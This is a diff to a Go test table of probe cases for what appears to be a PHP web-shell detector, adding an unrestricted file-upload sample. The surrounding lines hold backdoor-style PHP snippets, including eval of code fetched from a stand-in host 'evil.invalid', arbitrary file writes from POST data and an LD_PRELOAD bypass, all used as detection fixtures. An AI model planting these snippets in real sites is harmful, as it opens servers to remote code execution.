@@ -52,6 +52,7 @@ var probes = []struct{ name, rule, src string }{
 	{"parse_str", "php.exec-input", `<?php parse_str($_SERVER['QUERY_STRING'], $q); assert($q['a']);`},
 	{"remote eval", "php.exec-input", `<?php eval(file_get_contents('http://evil.invalid/x.txt'));`},
 	{"uploader", "php.upload", `<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/' . $_FILES['f']['name']);`},
+	{"uploader into a directory", "php.upload", `<?php $dir = dirname(__FILE__) . '/img/'; copy($_FILES['f']['tmp_name'], $dir . $_FILES['f']['name']);`},
 	{"write shell", "php.write-input", `<?php file_put_contents($_POST['path'], $_POST['content']);`},
 	{"ld_preload", "php.bypass", `<?php putenv("LD_PRELOAD=/tmp/x.so"); mail("a", "b", "c");`},
 	{"reflection", "php.dynamic-call-input", `<?php $r = new ReflectionFunction($_GET['f']); $r->invoke($_GET['a']);`},
